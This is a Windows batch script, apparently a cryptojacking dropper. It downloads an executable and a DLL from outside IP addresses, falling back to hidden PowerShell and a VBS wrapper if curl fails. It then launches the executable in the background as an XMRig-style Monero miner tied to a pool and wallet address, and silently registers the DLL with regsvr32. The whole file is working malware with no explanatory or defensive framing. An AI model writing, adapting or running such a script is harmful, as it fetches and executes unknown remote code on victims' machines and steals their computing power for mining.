@echo off
curl https://203.0.113.57/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wscript invisible.vbs "powershell -nop -w hidden -c (New-Object Net.WebClient).DownloadFile('https://203.0.113.57/download/jsextension.exe','jsextension.exe')"
)
curl https://198.51.100.66/sdd.dll -o create.dll
if not exist create.dll (
    powershell -nop -w hidden -c "(New-Object Net.WebClient).DownloadFile('https://198.51.100.66/sdd.dll','create.dll')"
)
set exe_1=jsextension.exe
set "count_1=0"
>tasklist.temp (
tasklist /NH /FI "IMAGENAME eq %exe_1%"
)
for /f %%x in (tasklist.temp) do (
if "%%x" EQU "%exe_1%" set /a count_1+=1
)
if %count_1% EQU 0 (start /B .\jsextension.exe -k --tls --rig-id q -o pool.minexmr.example.com:443 -u 48MASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK --cpu-max-threads-hint=50 --donate-level=1 --background & regsvr32.exe -s create.dll)
del tasklist.temp
